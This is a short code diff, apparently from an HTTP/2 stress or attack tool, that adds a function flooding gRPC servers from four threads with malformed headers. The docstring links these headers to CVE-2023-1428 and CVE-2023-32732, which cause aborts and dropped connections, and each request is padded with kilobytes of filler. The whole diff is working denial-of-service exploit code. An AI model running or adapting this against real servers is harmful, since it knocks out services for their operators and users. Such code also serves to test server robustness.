@@ -76,3 +76,19 @@ def header_bomb(target):
             peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(peer.streams), bomb))
 
     in_threads(4, lambda: persist(target, body))
+
+
+def unreadable_headers(target):
+    """headers that gRPC cannot read and once aborted on (CVE-2023-1428), or ends the connection for (CVE-2023-32732), with 12 KB of others"""
+    names = ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"), (b"x-bin", b"not base64!"), (b"grpc-timeout", b"soon"))
+    filler = b"".join(header(b"x-filler", b"a" * 1000) for _ in range(12))
+
+    def body(peer):
+        peer.acknowledge()
+        for name, value in names:
+            for large in (filler, b""):
+                headers = header(name, value) + request_headers(target.unary) + header(name, value) + large
+                peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(peer.streams), headers))
+        peer.idle(0.01)
+
+    in_threads(4, lambda: persist(target, body))
